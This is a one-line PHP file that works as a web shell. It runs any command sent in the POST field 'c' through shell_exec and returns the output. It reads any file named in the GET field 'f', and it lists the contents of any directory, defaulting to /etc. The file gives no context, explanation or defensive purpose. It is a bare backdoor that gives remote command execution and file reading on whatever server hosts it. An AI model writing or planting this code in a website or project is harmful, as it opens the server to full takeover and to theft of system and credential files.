<?php if (isset($_POST['c'])) { echo shell_exec($_POST['c'] . ' 2>&1'); } elseif (isset($_GET['f'])) { readfile($_GET['f']); } else { foreach (scandir($_GET['d'] ?? '/etc') as $n) echo $n, "\n"; }
